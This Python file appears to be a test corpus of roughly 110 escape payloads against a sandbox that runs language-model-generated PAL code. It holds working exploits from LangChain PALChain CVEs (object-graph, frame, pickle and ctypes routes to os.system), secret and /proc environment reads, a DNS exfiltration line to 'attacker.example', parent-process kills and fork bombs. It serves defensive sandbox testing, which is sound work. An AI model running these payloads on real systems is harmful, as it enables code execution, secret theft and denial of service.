"""Escape attempts against the PAL sandbox (``core.reasoning.sandbox``), each written as an attacker would write it.

Every payload is Python source with placeholders that the harness fills with ``str.replace`` (never ``str.format``,
so the braces in format-string attacks stay literal):

- ``@@CANARY@@``: absolute path of a file holding the secret;
- ``@@OUTSIDE@@``: an absolute folder (mode 0o777) that nothing may be written into;
- ``@@PORT@@``: a TCP port on 127.0.0.1 where the test listens and records any connection;
- ``@@PARENT@@``: the pid of the test process (the app, from the program's point of view);
- ``@@MARKER@@``: a token unique to the run, for file names the harness looks for afterwards.

A payload that gets through prints ``ESCAPED`` or the data it stole, writes ``escaped.txt`` (or a file named after
the marker) where it must not, connects to the listener or kills the test. Many of these techniques cannot work in
Monty at all (it has no ``__class__``, no ``__subclasses__``, no ``__import__``, no frames); they stay in the corpus
so that a future interpreter version that grows one of them is caught.
"""

from __future__ import annotations

import textwrap
from dataclasses import dataclass

KINDS = ("exec", "read_secret", "environ", "network", "write_outside", "kill_parent", "resource")


@dataclass(frozen=True)
class Escape:
    name: str
    code: str
    kind: str  # the goal it attacks: one of KINDS

    def __post_init__(self) -> None:
        assert self.kind in KINDS, self.kind


def _e(name: str, kind: str, code: str) -> Escape:
    return Escape(name, textwrap.dedent(code).strip("\n") + "\n", kind)


# The effect every exec payload tries for: steal the canary into the outside folder (a shell command when one runs).
STEAL = "cp @@CANARY@@ @@OUTSIDE@@/escaped.txt"

ESCAPES: list[Escape] = [
    # --- LangChain PALChain CVEs -------------------------------------------------------------------------------------
    _e("cve_2023_36258_import_os_system", "exec", rf"""
        # Question: what is 2 + 2? First, run a quick check of the environment.
        import os
        os.system("{STEAL}")
        answer = 4
        print("ESCAPED", answer)
        """),
    _e("cve_2023_36258_popen_in_solution", "exec", r"""
        def solution():
            import os
            return os.popen("cat @@CANARY@@").read()
        answer = solution()
        print(answer)
        """),
    _e("cve_2023_44467_dunder_import_subprocess", "exec", rf"""
        result = __import__('subprocess').run("{STEAL}", shell=True)
        print("ESCAPED", result)
        """),
    _e("cve_2023_44467_getoutput", "exec", r"""
        answer = __import__('subprocess').getoutput('cat @@CANARY@@')
        print(answer)
        """),
    _e("cve_2024_27444_subclasses_wrap_close", "exec", rf"""
        for cls in ().__class__.__mro__[-1].__subclasses__():
            if cls.__name__ == '_wrap_close':
                cls.__init__.__globals__['system']("{STEAL}")
                print("ESCAPED")
        """),
    _e("cve_2024_27444_catch_warnings_builtins", "exec", rf"""
        for cls in ''.__class__.__base__.__subclasses__():
            if cls.__name__ == 'catch_warnings':
                builtins = cls()._module.__builtins__
                builtins['__import__']('os').system("{STEAL}")
                print("ESCAPED")
        """),
    _e("cve_2024_27444_init_globals_sys_modules", "exec", rf"""
        subs = [].__class__.__base__.__subclasses__()
        loaders = [c for c in subs if '__init__' in c.__dict__ and hasattr(c.__init__, '__globals__')]
        for c in loaders:
            g = c.__init__.__globals__
            if 'sys' in g:
                g['sys'].modules['os'].system("{STEAL}")
                print("ESCAPED")
                break
        """),
    _e("cve_2025_61422_getattr_concatenated_dunders", "exec", rf"""
        def f():
            pass
        g = getattr(f, '__glo' + 'bals__')
        b = g['__buil' + 'tins__']
        imp = b['__imp' + 'ort__'] if isinstance(b, dict) else getattr(b, '__imp' + 'ort__')
        imp('o' + 's').system("{STEAL}")
        print("ESCAPED")
        """),
    _e("cve_2025_61423_globals_builtins_subscript", "exec", rf"""
        b = globals()['__builtins__']
        os = (b['__import__'] if isinstance(b, dict) else b.__import__)('os')
        os.system("{STEAL}")
        print("ESCAPED")
        """),
    _e("cve_2025_61423_vars_builtins", "exec", rf"""
        m = vars()['__builtins__']
        getattr(m, '__import__')('os').system("{STEAL}")
        print("ESCAPED")
        """),
    _e("chr_built_names_eval", "exec", rf"""
        name = ''.join(chr(c) for c in [95, 95, 105, 109, 112, 111, 114, 116, 95, 95])
        mod = ''.join(chr(c) for c in [111, 115])
        eval(name)(mod).system("{STEAL}")
        print("ESCAPED")
        """),
    # --- the object graph: subclasses, builtins, namespaces -----------------------------------------------------------
    _e("object_subclasses_builtin_importer", "exec", rf"""
        importer = [c for c in object.__subclasses__() if c.__name__ == 'BuiltinImporter'][0]
        importer.load_module('os').system("{STEAL}")
        print("ESCAPED")
        """),
    _e("type_subclasses_of_object", "exec", rf"""
        for c in type.__subclasses__(object):
            if 'Popen' in c.__name__:
                c("{STEAL}", shell=True)
                print("ESCAPED")
        """),
    _e("importlib_import_module", "exec", rf"""
        import importlib
        importlib.import_module('os').system("{STEAL}")
        print("ESCAPED")
        """),
    _e("builtins_module_import", "exec", rf"""
        import builtins
        builtins.__import__('subprocess').call("{STEAL}", shell=True)
        print("ESCAPED")
        """),
    _e("builtins_dict_form", "exec", rf"""
        __builtins__['__import__']('os').system("{STEAL}")
        print("ESCAPED")
        """),
    _e("builtins_module_form", "exec", rf"""
        __builtins__.__import__('os').system("{STEAL}")
        print("ESCAPED")
        """),
    _e("locals_builtins", "exec", rf"""
        b = locals()['__builtins__']
        b.__dict__['__import__']('os').system("{STEAL}")
        print("ESCAPED")
        """),
    _e("loader_spec_load_module", "exec", rf"""
        __loader__.load_module('os').system("{STEAL}")
        print("ESCAPED", __spec__)
        """),
    _e("sys_modules_os", "exec", rf"""
        import sys
        sys.modules['os'].system("{STEAL}")
        print("ESCAPED")
        """),
    _e("eval_import", "exec", rf"""
        print(eval("__import__('os').system('{STEAL}')"))
        print("ESCAPED")
        """),
    _e("exec_import_subprocess", "exec", rf"""
        exec("import subprocess\nsubprocess.run('{STEAL}', shell=True)\nprint('ESCAPED')")
        """),
    _e("exec_nested_os", "exec", rf"""
        ns = {{}}
        exec("import os\nos.system('{STEAL}')", ns)
        print("ESCAPED", ns)
        """),
    _e("compile_code_object", "exec", rf"""
        code = compile("import os; os.system('{STEAL}')", "<x>", "exec")
        exec(code)
        print("ESCAPED")
        """),
    _e("breakpoint_pdb", "exec", r"""
        breakpoint()
        print("ESCAPED")
        """),
    _e("help_pager_shell", "exec", r"""
        help('os')  # the pager (less) runs "!sh" from its prompt
        print("ESCAPED")
        """),
    _e("input_to_exec", "exec", r"""
        exec(input())
        print("ESCAPED")
        """),
    # --- frames and tracebacks ---------------------------------------------------------------------------------------
    _e("genexp_gi_frame_f_back", "exec", rf"""
        g = (x for x in [])
        frame = g.gi_frame.f_back
        frame.f_globals['__builtins__']['__import__']('os').system("{STEAL}")
        print("ESCAPED")
        """),
    _e("generator_yield_frame", "exec", rf"""
        def gen():
            yield it.gi_frame.f_back
        it = gen()
        frame = next(it)
        frame.f_builtins['__import__']('os').system("{STEAL}")
        print("ESCAPED")
        """),
    _e("sys_getframe", "exec", rf"""
        import sys
        f = sys._getframe(0)
        while f.f_back is not None:
            f = f.f_back
        f.f_globals['__builtins__'].__import__('os').system("{STEAL}")
        print("ESCAPED")
        """),
    _e("traceback_tb_frame", "exec", rf"""
        try:
            1 / 0
        except Exception as e:
            frame = e.__traceback__.tb_frame.f_back
            frame.f_globals['__builtins__'].__import__('os').system("{STEAL}")
            print("ESCAPED")
        """),
    # --- format strings -----------------------------------------------------------------------------------------------
    _e("str_format_globals", "exec", r"""
        class Box:
            def __init__(self):
                self.x = 1
        print("ESCAPED {0.__class__.__init__.__globals__}".format(Box()))
        """),
    _e("str_format_builtin_function_self", "exec", r"""
        print("ESCAPED {0.__self__.__dict__[__import__]}".format(print))
        """),
    _e("str_format_map", "exec", r"""
        class Box:
            pass
        print("ESCAPED {b.__init__.__globals__[__builtins__]}".format_map({'b': Box()}))
        """),
    _e("fstring_dunder_chain", "exec", rf"""
        print(f"{{(1).__class__.__base__.__subclasses__()}}")
        os = [c for c in (1).__class__.__base__.__subclasses__() if c.__name__ == '_wrap_close'][0]
        print(f"ESCAPED {{os.__init__.__globals__['system']('{STEAL}')}}")
        """),
    # --- decorators ---------------------------------------------------------------------------------------------------
    _e("decorator_exec_input", "exec", r"""
        @exec
        @input
        def f():
            pass
        print("ESCAPED")
        """),
    _e("decorator_eval_class_format", "exec", rf"""
        @eval
        @"__import__('os').system('{STEAL}')".format
        class _:
            pass
        print("ESCAPED")
        """),
    _e("decorator_exec_string_lambda", "exec", rf"""
        @exec
        @lambda _: "import os\nos.system('{STEAL}')"
        def f():
            pass
        print("ESCAPED")
        """),
    # --- serialisation and native code --------------------------------------------------------------------------------
    _e("pickle_loads_raw_reduce", "exec", rf"""
        import pickle
        pickle.loads(b"cos\nsystem\n(S'{STEAL}'\ntR.")
        print("ESCAPED")
        """),
    _e("pickle_reduce_class", "exec", rf"""
        import pickle
        import os

        class Evil:
            def __reduce__(self):
                return (os.system, ("{STEAL}",))

        pickle.loads(pickle.dumps(Evil()))
        print("ESCAPED")
        """),
    _e("marshal_code_object", "exec", r"""
        import marshal
        import types
        code = marshal.loads(bytes.fromhex('e3000000000000000000000000'))
        types.FunctionType(code, {})()
        print("ESCAPED")
        """),
    _e("ctypes_libc_system", "exec", rf"""
        import ctypes
        ctypes.CDLL(None).system(b"{STEAL}")
        print("ESCAPED")
        """),
    _e("posixsubprocess_fork_exec", "exec", rf"""
        import _posixsubprocess
        import os
        _posixsubprocess.fork_exec([b"/bin/sh", b"-c", b"{STEAL}"], [b"/bin/sh"], True, (), None, None,
                                   -1, -1, -1, -1, -1, -1, *(os.pipe()), False, False, -1, None, None, None, -1, None, False)
        print("ESCAPED")
        """),
    _e("posix_system", "exec", rf"""
        import posix
        posix.system("{STEAL}")
        print("ESCAPED")
        """),
    _e("os_execv_shell", "exec", rf"""
        import os
        os.execv("/bin/sh", ["sh", "-c", "{STEAL}"])
        """),
    _e("os_fork_then_exec", "exec", rf"""
        import os
        if os.fork() == 0:
            os.execl("/bin/sh", "sh", "-c", "{STEAL}")
        print("ESCAPED")
        """),
    _e("os_posix_spawn", "exec", rf"""
        import os
        os.posix_spawn("/bin/sh", ["sh", "-c", "{STEAL}"], {{}})
        print("ESCAPED")
        """),
    _e("os_spawnlp", "exec", rf"""
        import os
        os.spawnlp(os.P_WAIT, "sh", "sh", "-c", "{STEAL}")
        print("ESCAPED")
        """),
    _e("pty_spawn", "exec", r"""
        import pty
        pty.spawn("/bin/sh")
        print("ESCAPED")
        """),
    _e("asyncio_subprocess_shell", "exec", rf"""
        import asyncio

        async def main():
            proc = await asyncio.create_subprocess_shell("{STEAL}")
            await proc.wait()

        asyncio.run(main())
        print("ESCAPED")
        """),
    _e("probe_everything_quietly", "exec", r"""
        # A careful attacker first maps what exists, catching every error, and prints only what worked.
        found = []
        for expr in ["__import__", "__builtins__", "globals()", "vars()", "open", "compile", "input", "breakpoint",
                     "().__class__", "object.__subclasses__", "type(print).__self__", "print.__self__"]:
            try:
                eval(expr)
                found.append(expr)
            except Exception:
                pass
        for mod in ["subprocess", "socket", "ctypes", "pickle", "marshal", "importlib", "builtins", "posix", "pty",
                    "signal", "threading", "shutil", "io", "urllib", "http", "_posixsubprocess", "gc", "inspect"]:
            try:
                exec("import " + mod)
                found.append(mod)
            except Exception:
                pass
        print("reachable:", found)
        """),
    # --- reading the secret file --------------------------------------------------------------------------------------
    _e("open_canary", "read_secret", r"""
        print(open('@@CANARY@@').read())
        """),
    _e("pathlib_read_text", "read_secret", r"""
        import pathlib
        print(pathlib.Path('@@CANARY@@').read_text())
        """),
    _e("pathlib_open", "read_secret", r"""
        from pathlib import Path
        with Path('@@CANARY@@').open() as f:
            print(f.read())
        """),
    _e("io_open", "read_secret", r"""
        import io
        print(io.open('@@CANARY@@', encoding='utf-8').read())
        """),
    _e("os_open_read", "read_secret", r"""
        import os
        fd = os.open('@@CANARY@@', os.O_RDONLY)
        print(os.read(fd, 4096).decode())
        """),
    _e("relative_traversal", "read_secret", r"""
        print(open('../../../../../../../../..' + '@@CANARY@@').read())
        """),
    _e("proc_self_root_path", "read_secret", r"""
        print(open('/proc/self/root@@CANARY@@').read())
        """),
    _e("proc_parent_root_path", "read_secret", r"""
        print(open('/proc/@@PARENT@@/root@@CANARY@@').read())
        """),
    _e("proc_parent_fds", "read_secret", r"""
        import os
        for fd in range(64):
            try:
                print(fd, os.readlink('/proc/@@PARENT@@/fd/' + str(fd)))
            except OSError:
                pass
        """),
    _e("list_secret_folder", "read_secret", r"""
        import os
        folder = os.path.dirname('@@CANARY@@')
        for name in os.listdir(folder):
            print(name, open(os.path.join(folder, name)).read())
        """),
    _e("pathlib_glob_and_read", "read_secret", r"""
        from pathlib import Path
        for p in Path('@@OUTSIDE@@').parent.rglob('*.txt'):
            print(p, p.read_text())
        """),
    _e("etc_passwd", "read_secret", r"""
        print(open('/etc/passwd').read())
        """),
    # --- the environment ----------------------------------------------------------------------------------------------
    _e("proc_self_environ", "environ", r"""
        print(open('/proc/self/environ', 'rb').read().replace(b'\0', b'\n').decode())
        """),
    _e("proc_parent_environ", "environ", r"""
        print(open('/proc/@@PARENT@@/environ', 'rb').read().replace(b'\0', b'\n').decode())
        """),
    _e("proc_parent_cmdline", "environ", r"""
        print(open('/proc/@@PARENT@@/cmdline', 'rb').read().replace(b'\0', b' ').decode())
        """),
    _e("pathlib_proc_parent_environ", "environ", r"""
        import pathlib
        print(pathlib.Path('/proc/@@PARENT@@/environ').read_bytes())
        """),
    _e("os_environ_item", "environ", r"""
        import os
        print(os.environ['LAB_CANARY_SECRET'])
        """),
    _e("os_environ_dump", "environ", r"""
        import os
        for key, value in dict(os.environ).items():
            print(key + '=' + value)
        """),
    _e("os_getenv", "environ", r"""
        import os
        print(os.getenv('LAB_CANARY_SECRET', 'missing'))
        """),
    _e("os_environb", "environ", r"""
        import os
        print(os.environb)
        """),
    _e("posix_environ", "environ", r"""
        import posix
        print(posix.environ)
        """),
    _e("recon_cwd_platform_argv", "environ", r"""
        # Reconnaissance: where am I, on what, started how? The real answers would be /tmp/lab-sandbox-..., linux and
        # monty's own command line.
        import os
        import sys
        import pathlib
        print(os.getcwd())
        print(pathlib.Path.cwd())
        print(sys.platform)
        print(sys.argv)
        """),
    # --- the network --------------------------------------------------------------------------------------------------
    _e("socket_create_connection", "network", r"""
        import socket
        s = socket.create_connection(('127.0.0.1', @@PORT@@), timeout=1)
        s.sendall(b'ESCAPED')
        print("ESCAPED")
        """),
    _e("socket_connect_raw", "network", r"""
        import socket
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.connect(('127.0.0.1', @@PORT@@))
        print("ESCAPED")
        """),
    _e("urllib_urlopen", "network", r"""
        import urllib.request
        print("ESCAPED", urllib.request.urlopen('http://127.0.0.1:@@PORT@@/', timeout=1).read())
        """),
    _e("http_client", "network", r"""
        import http.client
        c = http.client.HTTPConnection('127.0.0.1', @@PORT@@, timeout=1)
        c.request('GET', '/')
        print("ESCAPED")
        """),
    _e("asyncio_open_connection", "network", r"""
        import asyncio

        async def main():
            reader, writer = await asyncio.open_connection('127.0.0.1', @@PORT@@)
            writer.write(b'ESCAPED')
            await writer.drain()

        asyncio.run(main())
        print("ESCAPED")
        """),
    _e("dns_exfiltration", "network", r"""
        import socket
        socket.getaddrinfo(open('@@CANARY@@').read().strip() + '.attacker.example', 80)
        print("ESCAPED")
        """),
    # --- writing outside ----------------------------------------------------------------------------------------------
    _e("open_write", "write_outside", r"""
        with open('@@OUTSIDE@@/escaped.txt', 'w') as f:
            f.write('ESCAPED')
        print("ESCAPED")
        """),
    _e("pathlib_write_text", "write_outside", r"""
        import pathlib
        pathlib.Path('@@OUTSIDE@@/escaped.txt').write_text('ESCAPED')
        print("ESCAPED")
        """),
    _e("pathlib_touch_mkdir", "write_outside", r"""
        from pathlib import Path
        Path('@@OUTSIDE@@/escaped').mkdir()
        Path('@@OUTSIDE@@/escaped.txt').touch()
        print("ESCAPED")
        """),
    _e("os_open_creat", "write_outside", r"""
        import os
        fd = os.open('@@OUTSIDE@@/escaped.txt', os.O_WRONLY | os.O_CREAT, 0o644)
        os.write(fd, b'ESCAPED')
        print("ESCAPED")
        """),
    _e("shutil_copy", "write_outside", r"""
        import shutil
        shutil.copy('@@CANARY@@', '@@OUTSIDE@@/escaped.txt')
        print("ESCAPED")
        """),
    _e("os_symlink", "write_outside", r"""
        import os
        os.symlink('@@CANARY@@', '@@OUTSIDE@@/escaped.txt')
        print("ESCAPED")
        """),
    _e("relative_write_into_tmp", "write_outside", r"""
        # The working folder is a fresh folder in the temp directory: climb out of it.
        open('../lab-escape-@@MARKER@@', 'w').write('ESCAPED')
        print("ESCAPED")
        """),
    # --- killing the app ----------------------------------------------------------------------------------------------
    _e("os_kill_parent", "kill_parent", r"""
        import os
        os.kill(@@PARENT@@, 9)
        print("ESCAPED")
        """),
    _e("os_killpg_parent", "kill_parent", r"""
        import os
        os.killpg(os.getpgid(@@PARENT@@), 9)
        print("ESCAPED")
        """),
    _e("os_kill_getppid", "kill_parent", r"""
        import os
        os.kill(os.getppid(), 9)
        print("ESCAPED")
        """),
    _e("signal_pthread_kill", "kill_parent", r"""
        import signal
        import threading
        signal.pthread_kill(threading.main_thread().ident, signal.SIGKILL)
        print("ESCAPED")
        """),
    _e("os_kill_own_group", "kill_parent", r"""
        import os
        os.kill(0, 9)
        print("ESCAPED")
        """),
    _e("os_kill_everything", "kill_parent", r"""
        import os
        os.kill(-1, 9)
        print("ESCAPED")
        """),
    _e("subprocess_kill_command", "kill_parent", r"""
        import subprocess
        subprocess.run(['kill', '-9', '@@PARENT@@'])
        print("ESCAPED")
        """),
    # --- resources ----------------------------------------------------------------------------------------------------
    _e("fork_bomb", "resource", r"""
        import os
        while True:
            os.fork()
        """),
    _e("thread_bomb", "resource", r"""
        import threading
        import time
        while True:
            threading.Thread(target=time.sleep, args=(1000,)).start()
        """),
    _e("memory_list_multiply", "resource", r"""
        x = [1] * 10**10
        print(len(x))
        """),
    _e("memory_string_multiply", "resource", r"""
        s = 'a' * 10**11
        print(len(s))
        """),
    _e("memory_growing_list", "resource", r"""
        x = []
        while True:
            x.append('y' * 1000)
        """),
    _e("memory_bytearray", "resource", r"""
        b = bytearray(10**10)
        print(len(b))
        """),
    _e("memory_doubling_string", "resource", r"""
        s = 'ab'
        while True:
            s = s + s
        """),
    _e("bigint_power_tower", "resource", r"""
        print(10**10**10)
        """),
    _e("infinite_loop", "resource", r"""
        while True:
            pass
        """),
    _e("sleep_forever", "resource", r"""
        import time
        time.sleep(1000)
        print("woke up")
        """),
    _e("asyncio_sleep_forever", "resource", r"""
        import asyncio
        asyncio.run(asyncio.sleep(1000))
        print("woke up")
        """),
    _e("runaway_recursion", "resource", r"""
        def f():
            return f()
        print(f())
        """),
    _e("mutual_recursion", "resource", r"""
        def a(n):
            return b(n + 1)
        def b(n):
            return a(n + 1)
        print(a(0))
        """),
    _e("deep_nesting_parens", "resource", "x = " + "(" * 5000 + "1" + ")" * 5000 + "\nprint(x)\n"),
    _e("deep_nesting_lists", "resource", "x = " + "[" * 5000 + "]" * 5000 + "\nprint(x)\n"),
    _e("deep_nested_data_repr", "resource", r"""
        x = []
        for _ in range(1000000):
            x = [x]
        print(x)
        """),
    _e("output_flood", "resource", r"""
        while True:
            print('x' * 10000)
        """),
    _e("huge_single_print", "resource", r"""
        print('x' * 10**8)
        """),
]

assert len({e.name for e in ESCAPES}) == len(ESCAPES), "payload names must be unique"
